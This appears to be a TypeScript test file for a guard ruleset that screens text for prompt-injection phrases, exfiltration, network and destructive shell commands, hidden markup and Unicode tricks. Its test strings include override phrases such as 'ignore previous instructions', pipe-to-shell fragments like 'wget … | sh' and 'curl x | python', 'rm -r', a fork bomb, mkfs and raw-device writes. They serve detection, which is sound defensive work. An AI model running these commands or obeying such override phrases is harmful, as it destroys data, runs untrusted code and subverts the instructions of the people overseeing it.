import { describe, expect, test } from 'vitest';
import { guardCases, nearText, seeded } from '../testing/texts.ts';
import { ReferenceMatcher } from './matcher.ts';
import { ORACLE } from '../testing/oracle.ts';
import { REFERENCE_RULES } from './rules.ts';
import { ReferenceRuleset } from './ruleset.ts';
import { COUNTED, Screen, SUSPECT } from '../screen.ts';
import { FoldedText } from './text.ts';

const ruleset = new ReferenceRuleset();
const screen = new Screen(ruleset.screen, 32, 1 << 20);
const judge = (text: string): string[] => {
  const bytes = Buffer.from(text);
  return (ruleset.judge(bytes, 0, bytes.length) ?? []).map(({ id }) => id);
};

/** What the screen says of a text at this offset of a buffer: a suspect, counted, or clean. */
function screened(text: string, offset: number): 'suspect' | 'counted' | 'clean' {
  const bytes = Buffer.concat([Buffer.alloc(offset, 'r'), Buffer.from(text), Buffer.from('m -r')]);
  screen.load(bytes, 0, bytes.length);
  const found = screen.look(offset, bytes.length - 4);
  return found === SUSPECT ? 'suspect' : found === COUNTED ? 'counted' : 'clean';
}

describe('published vectors', () => {
  // Those too that a better ruleset should answer otherwise: this one is the reference's.
  const cases = guardCases();

  test('there are some', () => expect(cases.length).toBeGreaterThan(200));

  test.each(cases.map((one) => [one.id, one] as const))('%s', (_, { content, expect: wanted }) => {
    const bytes = Buffer.from(content);
    const alerts = ruleset
      .judge(bytes, 0, bytes.length)
      ?.map(({ type, severity, id }) => ({ type, severity, rule: id }));
    expect(alerts).toEqual(wanted.alerts);
  });
});

describe('the matcher is the patterns', () => {
  const matcher = new ReferenceMatcher();
  const folded = new FoldedText();
  const bitsOf = (patterns: readonly RegExp[], text: string): number =>
    patterns.reduce((bits, pattern, index) => bits | (pattern.test(text) ? 1 << index : 0), 0);

  test.each([1, 2, 3, 4])('on texts near them, seed %i', (seed) => {
    const random = seeded(seed);
    for (let round = 0; round < 2_500; round++) {
      const text = nearText(random, 14);
      const bytes = Buffer.from(text);
      folded.fold(bytes, 0, bytes.length);
      const plain = Buffer.from(folded.bytes.subarray(0, folded.length)).toString('latin1');
      const seen = matcher.match(folded.bytes, folded.length);
      for (const family of ['injection', 'code', 'exfil', 'network', 'markup'] as const) {
        expect([family, seen[family], text]).toEqual([family, bitsOf(ORACLE[family], plain), text]);
      }
      for (const family of ['destructive', 'standing'] as const) {
        expect([family, seen[family], text]).toEqual([family, bitsOf(ORACLE[family], plain), text]);
      }
    }
  });
});

describe('the screen never misses', () => {
  test.each([11, 12, 13, 14])('a text near the patterns, at any address, seed %i', (seed) => {
    const random = seeded(seed);
    const said = { suspect: 0, counted: 0, clean: 0 };
    for (let round = 0; round < 3_000; round++) {
      const text = nearText(random, 1 + Math.floor(random() * 8));
      const found = judge(text);
      const verdict = screened(text, 2 + Math.floor(random() * 5));
      said[verdict]++;
      if (verdict === 'clean') expect([text, found]).toEqual([text, []]);
      if (verdict === 'counted') expect([text, found]).toEqual([text, ['special_chars']]);
    }
    // The screen has work of all three kinds here.
    expect(Math.min(said.suspect, said.counted, said.clean)).toBeGreaterThan(50);
  });

  test('an alert of any rule makes a suspect, with each letter in either case', () => {
    const texts = guardCases().filter(({ expect: wanted }) =>
      wanted.alerts.some(({ rule }) => rule !== 'special_chars'),
    );
    for (const { content } of texts) {
      for (const text of [content, content.toUpperCase(), content.toLowerCase()]) {
        if (judge(text).every((rule) => rule === 'special_chars')) continue;
        expect([text, screened(text, 2), screened(text, 3)]).toEqual([text, 'suspect', 'suspect']);
      }
    }
  });
});

test.each([31, 32, 33])('the judge leaves out no text that the matcher finds, seed %i', (seed) => {
  const random = seeded(seed);
  const matcher = new ReferenceMatcher();
  const folded = new FoldedText();
  const beyond = ['\u3002', '\u00e9', '\u4e2d', '\u2014', ''];
  for (let round = 0; round < 3_000; round++) {
    const mark = (): string => beyond[Math.floor(random() * beyond.length)] ?? '';
    const text = mark() + nearText(random, 3) + mark() + nearText(random, 3) + mark();
    const bytes = Buffer.from(text);
    folded.fold(bytes, 0, bytes.length);
    const seen = matcher.match(folded.bytes, folded.length);
    const alone = seen.injection | seen.code | seen.destructive | seen.exfil | seen.network;
    const matches = (alone | seen.markup) !== 0;
    const rules = judge(text).filter((rule) => rule.includes('['));
    expect([text, rules.length > 0]).toEqual([text, matches]);
  }
});

describe('characters', () => {
  test.each([
    ['nothing', '', []],
    ['3 in 10 are special', 'abcdefg!?.', []],
    ['4 in 11 are special', 'abcdefg!?.;', ['special_chars']],
    ['one special character', '-', ['special_chars']],
    ['code points are counted, not units', 'abcdefg😀🚀💡', []],
    ['letters that came after Unicode 14 are special', 'a\u{11f02}\u{11f04}', ['special_chars']],
    [
      'Kelvin sign in a pattern',
      'wget x.tes\u212a | \u212ash',
      ['exfil:exfil[0]', 'network:network[1]'],
    ],
    ['long s in a pattern', 'di\u017fregard prior no', ['injection:injection[3]']],
    ['dotless and dotted i', '\u0131gnore previous \u0130nstructions', ['injection:injection[0]']],
    ['two scripts', 'Привет team', ['mixed_scripts']],
    ['the Kelvin sign is of no script', 'Привет \u212a', []],
    ['a direction is changed', 'invoice \u202e gpj', ['bidi']],
  ])('%s', (_, text, wanted) => expect(judge(text)).toEqual(wanted));

  test.each([
    ['cut short', [0x61, 0xe2, 0x82]],
    ['overlong', [0xc0, 0xaf]],
    ['overlong in three', [0xe0, 0x80, 0xaf]],
    ['a surrogate', [0xed, 0xa0, 0x80]],
    ['beyond the last', [0xf4, 0x90, 0x80, 0x80]],
    ['a lone continuation', [0x80]],
    ['a byte that begins nothing', [0xff]],
  ])('not well-formed: %s', (_, bytes) => {
    expect(ruleset.judge(Uint8Array.from(bytes), 0, bytes.length)).toBeUndefined();
  });

  test('well-formed exactly when the platform says so', () => {
    const random = seeded(21);
    const decoder = new TextDecoder('utf-8', { fatal: true, ignoreBOM: true });
    for (let round = 0; round < 5_000; round++) {
      const bytes = Buffer.from('a€\u{1f600}ß');
      bytes[Math.floor(random() * bytes.length)] = Math.floor(random() * 256);
      let isText = true;
      try {
        decoder.decode(bytes);
      } catch {
        isText = false;
      }
      expect(ruleset.judge(bytes, 0, bytes.length) !== undefined).toBe(isText);
    }
  });
});

describe('work is linear', () => {
  const repeated: readonly (readonly [string, (length: number) => string])[] = [
    ['rm - and r', (n) => `rm -${'r'.repeat(n)}1`],
    ['curl', (n) => 'curl '.repeat(n / 5)],
    ['curl and a pipe', (n) => `${'curl '.repeat(n / 5)}|`],
    ['pipes', (n) => 'curl x|'.repeat(n / 7)],
    ['pipes and blanks', (n) => `${'curl |'.repeat(n / 12)}${' '.repeat(n / 2)}`],
    ['curl -', (n) => 'curl -da '.repeat(n / 9)],
    ['a host without an end', (n) => `curl ${'a.b-'.repeat(n / 4)}`],
    ['hosts', (n) => 'curl a.b1 '.repeat(n / 10)],
    ['h without a scheme', (n) => `curl ${'http'.repeat(n / 4)}`],
    ['chmod', (n) => 'chmod -chmod '.repeat(n / 13)],
    ['chmod and letters', (n) => `chmod ${'a'.repeat(n)}`],
    ['mkfs', (n) => 'mkfs.mkfs.'.repeat(n / 10)],
    ['colons', (n) => ':(){:|:&};'.repeat(n / 10)],
    ['colons and blanks', (n) => ': ( ) { : | '.repeat(n / 12) + ' '.repeat(100)],
    ['tags that do not close', (n) => '<system '.repeat(n / 8)],
    ['openings and blanks', (n) => `${'<'.repeat(n / 2)}${' '.repeat(n / 2)}`],
    ['fences', (n) => '`'.repeat(n)],
    ['fences and blanks', (n) => `\`\`\`python${' '.repeat(n)}`],
    ['ignore all', (n) => 'ignore all previous '.repeat(n / 20)],
    ['blanks', (n) => `ignore${' '.repeat(n)}all${' '.repeat(n)}`],
    ['standing orders', (n) => 'do not whenever the user '.repeat(n / 25)],
    ['devices', (n) => `>${' '.repeat(n / 2)}${'/dev/sd'.repeat(n / 14)}`],
    ['python versions', (n) => `curl x | python${'3.'.repeat(n / 2)}`],
    [
      'near texts',
      (n) => Array.from({ length: n / 40 }, (_, i) => nearText(seeded(i), 8)).join(' '),
    ],
  ];

  test.each(repeated)('%s', (_, make) => {
    const workOf = (length: number): number => {
      const bytes = Buffer.from(make(length));
      ruleset.judge(bytes, 0, bytes.length);
      return ruleset.work / bytes.length;
    };
    // Reads per byte, besides one look-up; the reference's own patterns reach half the length.
    expect(workOf(20_000)).toBeLessThan(12);
    expect(workOf(40_000)).toBeLessThan(1.2 * workOf(20_000) + 0.1);
  });
});

test('every rule has an id of its own', () => {
  const ids = Object.values(REFERENCE_RULES)
    .flat()
    .map(({ id }) => id);
  expect(new Set(ids).size).toBe(ids.length);
});
